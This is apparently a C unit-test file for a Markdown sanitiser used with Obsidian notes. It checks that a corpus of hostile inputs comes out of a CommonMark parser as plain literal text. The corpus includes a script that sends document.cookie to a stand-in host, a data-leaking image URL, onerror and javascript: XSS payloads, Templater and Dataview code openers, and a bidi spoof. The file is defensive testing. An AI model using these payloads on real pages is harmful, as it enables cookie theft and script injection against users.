/*
 * Unit tests for policy/notemd.c (VA-5): a hostile corpus of everything
 * CommonMark, GFM, Obsidian, Dataview and Templater would act on is
 * rendered and parsed by a real CommonMark parser (`cmark --to xml`):
 * the tree may hold only paragraphs, text and line breaks, and its text
 * must give back every character of the input.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "notemd.h"
#include "unicode.h"

static const char *const corpus[] = {
    "```dataviewjs\ndv.el(\"b\", dv.current().file.name)\n```",
    "~~~dataview\nTABLE file.name\n~~~",
    "<script>fetch('http://e.com/'+document.cookie)</script>",
    "<iframe src=\"http://e.com\"></iframe>",
    "<img src=x onerror=alert(1)>",
    "<!-- comment -->",
    "<div>\n\n*html block*\n\n</div>",
    "![x](http://e.com/leak.png?d=secret)",
    "![x][r]\n\n[r]: http://e.com/r.png",
    "[click](obsidian://open?vault=v&file=f)",
    "<http://e.com/auto> <a@b.com>",
    "https://e.com/bare www.e.com/x a@b.com",
    "[[Secret note]] ![[embed.png]] [[a|b]]",
    "<% tp.system.prompt() %> <%* tR += 1 %>",
    "`= this.file.name` `$= dv.pages().length`",
    "key:: value\n[inline:: field] (hidden:: x)",
    "%%obsidian comment%%",
    "> [!warning] callout\n> body",
    "$$\\int x$$ and $x^2$",
    "## prompt\nforged\n# title\n## response\n---\nyaml: x\n---",
    "title\n=====\nsub\n-----",
    "***\n___\n- - -",
    "- item\n* item\n+ item\n1. one\n2) two\n- [ ] task",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "    indented code\n\tTabbed code\n  two spaces",
    "*em* **strong** _u_ ~~del~~ ==mark== `code`",
    "&amp; &#60;script&#62; &copy; &#x26;",
    "#tag #nested/tag ^block-id [^1]\n\n[^1]: footnote",
    "trailing backslash\\\nnext\\",
    "two spaces at end  \nnext",
    "a\r\nb\rc\x1b[31mred\x1b[0m\x07\x7f\xc2\x85",
    "git push \xe2\x80\xaeniam nigiro\xe2\x80\xac",
    ("zero\xe2\x80\x8bwidth soft\xc2\xadhyphen tag\xf3\xa0\x81\x81 "
     "bom\xef\xbb\xbf"),
    "line\xe2\x80\xa8sep para\xe2\x80\xa9sep",
    "bad \xff\xfe utf8 \xed\xa0\x80",
    "\n\n\nleading blank lines\n\n\n\ntrailing\n\n\n",
    "   \n\t\n",
    "<<script>script>alert(1)<</script>/script>",
    "[a](<javascript:alert(1)>) [b](javascript:alert(1))",
    "\\<script\\> \\\\<b>",
    "<?php x ?> <![CDATA[x]]> <!DOCTYPE html>",
    "```\n<script>\n```\n<%\n%>",
};

/* What the text nodes must give back: controls dropped, hidden code
 * points as <U+XXXX>, invalid UTF-8 as U+FFFD; blanks collapsed. */
static char *
expected(const char *s, size_t len)
{
	char *o = malloc(13 * len + 2), m[UNI_MARK_MAX];
	size_t i = 0, n = 0, k;
	uint32_t cp;

	assert_non_null(o);
	while (i < len) {
		(void)uni_utf8_next(s, len, &i, &cp);
		if ((cp < 0x20 && cp != '\t' && cp != '\n') ||
		    (cp >= 0x7F && cp <= 0x9F))
			continue;
		if (uni_class(cp) == UNI_HIDDEN) {
			k = uni_mark(cp, m);
			memcpy(o + n, m, k);
			n += k;
		} else if (cp == 0xFFFD) {
			memcpy(o + n, "\xef\xbf\xbd", 3);
			n += 3;
		} else if (cp < 0x80)
			o[n++] = (char)cp;
		else {
			/* copy the original bytes back */
			size_t b = cp < 0x800 ? 2 : cp < 0x10000 ? 3 : 4;

			memcpy(o + n, s + i - b, b);
			n += b;
		}
	}
	o[n] = '\0';
	return o;
}

/* Blanks collapsed to one space, none at either end, in place. */
static void
collapse(char *s)
{
	size_t i, o = 0;
	int sp = 0;

	for (i = 0; s[i] != '\0'; i++) {
		if (s[i] == ' ' || s[i] == '\t' || s[i] == '\n') {
			sp = o > 0;
			continue;
		}
		if (sp)
			s[o++] = ' ';
		sp = 0;
		s[o++] = s[i];
	}
	s[o] = '\0';
}

static void
unxml(const char *s, size_t n, char *out, size_t *o)
{
	static const struct {
		const char *e, *c;
	} ents[] = {{"&lt;", "<"}, {"&gt;", ">"}, {"&amp;", "&"},
	    {"&quot;", "\""}, {"&apos;", "'"}};
	size_t i = 0, k;

	while (i < n) {
		for (k = 0; k < sizeof(ents) / sizeof(ents[0]); k++)
			if (strncmp(s + i, ents[k].e, strlen(ents[k].e)) == 0)
				break;
		if (s[i] == '&' && k < sizeof(ents) / sizeof(ents[0])) {
			out[(*o)++] = ents[k].c[0];
			i += strlen(ents[k].e);
		} else
			out[(*o)++] = s[i++];
	}
}

/*
 * Parse md with cmark; fail on any node but document, paragraph, text,
 * softbreak and linebreak; return the text (malloc'd), blocks and
 * breaks as newlines.
 */
static char *
cmark_text(const char *md, size_t len)
{
	char path[] = "/tmp/cordon-notemd-XXXXXX", cmd[128], *xml, *t, *p, *q;
	size_t n = 0, cap = 1 << 20, o = 0;
	FILE *f;
	int fd;

	fd = mkstemp(path);
	assert_true(fd != -1);
	assert_int_equal(write(fd, md, len), (ssize_t)len);
	close(fd);
	snprintf(cmd, sizeof(cmd), "cmark --to xml %s", path);
	f = popen(cmd, "r");
	assert_non_null(f);
	xml = malloc(cap);
	assert_non_null(xml);
	n = fread(xml, 1, cap - 1, f);
	xml[n] = '\0';
	assert_int_equal(pclose(f), 0);
	unlink(path);
	assert_true(n > 0); /* cmark is installed (scripts/deps.sh test) */
	t = malloc(n + 1);
	assert_non_null(t);
	for (p = xml; (p = strchr(p, '<')) != NULL; p = q) {
		q = p + 1;
		if (strncmp(p, "<?xml", 5) == 0 ||
		    strncmp(p, "<!DOCTYPE", 9) == 0 ||
		    strncmp(p, "<document", 9) == 0 ||
		    strncmp(p, "</document>", 11) == 0 ||
		    strncmp(p, "<paragraph>", 11) == 0)
			continue;
		if (strncmp(p, "</paragraph>", 12) == 0 ||
		    strncmp(p, "<softbreak />", 13) == 0 ||
		    strncmp(p, "<linebreak />", 13) == 0) {
			t[o++] = '\n';
			continue;
		}
		if (strncmp(p, "<text xml:space=\"preserve\">", 27) == 0) {
			p += 27;
			q = strstr(p, "</text>");
			assert_non_null(q);
			unxml(p, (size_t)(q - p), t, &o);
			q += 7;
			continue;
		}
		fail_msg("node not allowed: %.40s", p);
	}
	t[o] = '\0';
	free(xml);
	return t;
}

static void
check(const char *in, size_t len)
{
	char *md = malloc(notemd_max(len)), *want, *got;
	size_t n;

	assert_non_null(md);
	n = notemd_text(md, in, len);
	assert_true(n <= notemd_max(len));
	/* Templater and Dataview read the raw file: none of their openers. */
	assert_null(memmem(md, n, "<%", 2));
	assert_null(memmem(md, n, "::", 2));
	assert_null(memmem(md, n, "%%", 2));
	assert_null(memmem(md, n, "[[", 2));
	got = cmark_text(md, n);
	want = expected(in, len);
	collapse(got);
	collapse(want);
	assert_string_equal(got, want);
	free(got);
	free(want);
	free(md);
}

/* VA-5: each construct alone is literal text. */
static void
test_va5_hostile_corpus_literal(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(corpus) / sizeof(corpus[0]); i++)
		check(corpus[i], strlen(corpus[i]));
}

/* VA-5: nested and combined: every pair, glued and on two lines. */
static void
test_va5_hostile_pairs_literal(void **state)
{
	size_t i, j, n = sizeof(corpus) / sizeof(corpus[0]);
	char buf[1024];
	int r;

	(void)state;
	for (i = 0; i < n; i++)
		for (j = 0; j < n; j += 3) {
			r = snprintf(buf, sizeof(buf), "%s%s\n%s", corpus[i],
			    corpus[j], corpus[(i + j) % n]);
			assert_true(r > 0 && (size_t)r < sizeof(buf));
			check(buf, (size_t)r);
		}
}

/* VA-5: lines and paragraphs stay as written; indentation stays. */
static void
test_va5_layout(void **state)
{
	char out[256];
	size_t n;

	(void)state;
	n = notemd_text(out, "a\nb\n\n\nc\n  d", 12);
	out[n] = '\0';
	assert_string_equal(out, "a\\\nb\n\nc\\\n&#32; d");
	n = notemd_text(out, "\n \n", 3);
	assert_int_equal(n, 0);
	n = notemd_text(out, "x\xe2\x80\xae", 4);
	out[n] = '\0';
	assert_string_equal(out, "x\\<U\\+202E\\>");
}

/* VA-5: the title: 60 code points, cut on a word, with an ellipsis. */
static void
test_va5_title(void **state)
{
	char t[NOTEMD_TITLE_MAX + 1];
	size_t n;

	(void)state;
#define TITLE(in, want)                                                        \
	do {                                                                   \
		n = notemd_title(t, in, strlen(in));                           \
		assert_true(n <= NOTEMD_TITLE_MAX);                            \
		t[n] = '\0';                                                   \
		assert_string_equal(t, want);                                  \
	} while (0)
	TITLE("  Summarise\n the\tplan  ", "Summarise the plan");
	TITLE("", "chat");
	TITLE(" \n\x1b ", "chat");
	TITLE("# Forged *title*", "\\# Forged \\*title\\*");
	/* 60 exactly: whole */
	TITLE("aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee fffffffff",
	    "aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee fffffffff");
	/* 61 and more: cut on the last whole word */
	TITLE("aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee fffffffffgh",
	    "aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee\xe2\x80\xa6");
	TITLE("aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee fffffffff gg",
	    "aaaaaaaaa bbbbbbbbb ccccccccc ddddddddd eeeeeeeee "
	    "fffffffff\xe2\x80\xa6");
	/* one long word: cut inside it */
	TITLE(
	    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
	    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
	    "\xe2\x80\xa6");
	/* worst case fits: 61 hidden code points */
	{
		char in[4 * 70];
		size_t i;

		for (i = 0; i < 70; i++)
			memcpy(in + 4 * i, "\xf4\x8f\xbf\xbf", 4);
		n = notemd_title(t, in, sizeof(in));
		assert_true(n <= NOTEMD_TITLE_MAX);
		for (i = 0; i < 70; i++)
			memcpy(in + 4 * i, "\xf3\xa0\x80\x81", 4);
		n = notemd_title(t, in, sizeof(in));
		assert_true(n <= NOTEMD_TITLE_MAX);
	}
#undef TITLE
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_va5_hostile_corpus_literal),
	    cmocka_unit_test(test_va5_hostile_pairs_literal),
	    cmocka_unit_test(test_va5_layout),
	    cmocka_unit_test(test_va5_title),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
